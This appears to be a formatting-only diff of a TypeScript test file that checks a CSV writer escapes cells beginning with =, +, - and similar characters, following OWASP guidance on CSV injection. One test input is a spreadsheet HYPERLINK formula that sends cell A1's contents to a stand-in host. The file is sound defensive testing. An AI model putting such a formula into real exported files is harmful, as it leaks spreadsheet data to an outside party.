@@ -9,11 +9,19 @@ import { describe, expect, test } from "vitest";
 import { toCsv, type CsvCell } from "@/domain/csv";
 
 /** One cell as it appears in the file, between the BOM and the CRLF. */
-const written = (cell: CsvCell) => toCsv([[cell]]).toString("utf8").slice(1).replace(/\r\n$/, "");
+const written = (cell: CsvCell) =>
+  toCsv([[cell]])
+    .toString("utf8")
+    .slice(1)
+    .replace(/\r\n$/, "");
 
 describe("cells that would start a formula are neutralised (OWASP CSV Injection)", () => {
   test.each([
-    ["= HYPERLINK, its quotes doubled and the cell quoted", '=HYPERLINK("http://x.example/?d="&A1,"Bấm")', `"'=HYPERLINK(""http://x.example/?d=""&A1,""Bấm"")"`],
+    [
+      "= HYPERLINK, its quotes doubled and the cell quoted",
+      '=HYPERLINK("http://x.example/?d="&A1,"Bấm")',
+      `"'=HYPERLINK(""http://x.example/?d=""&A1,""Bấm"")"`,
+    ],
     ["= arithmetic", "=1+1", "'=1+1"],
     ["+ leading", "+84 912 345 678", "'+84 912 345 678"],
     ["- leading text", "-2+3", "'-2+3"],
@@ -67,11 +75,19 @@ describe("one writer", () => {
   const files = (dir: string): string[] =>
     readdirSync(dir).flatMap((n) => {
       const p = path.join(dir, n);
-      return statSync(p).isDirectory() ? (p.includes("generated") ? [] : files(p)) : /\.(ts|tsx|mjs)$/.test(n) ? [p] : [];
+      return statSync(p).isDirectory()
+        ? p.includes("generated")
+          ? []
+          : files(p)
+        : /\.(ts|tsx|mjs)$/.test(n)
+          ? [p]
+          : [];
     });
 
   test("only src/domain/csv.ts imports csv-stringify", () => {
-    const writers = [...files("src"), ...files("scripts")].filter((f) => /from "csv-stringify/.test(readFileSync(f, "utf8")));
+    const writers = [...files("src"), ...files("scripts")].filter((f) =>
+      /from "csv-stringify/.test(readFileSync(f, "utf8")),
+    );
     expect(writers).toEqual([path.join("src", "domain", "csv.ts")]);
   });
 });
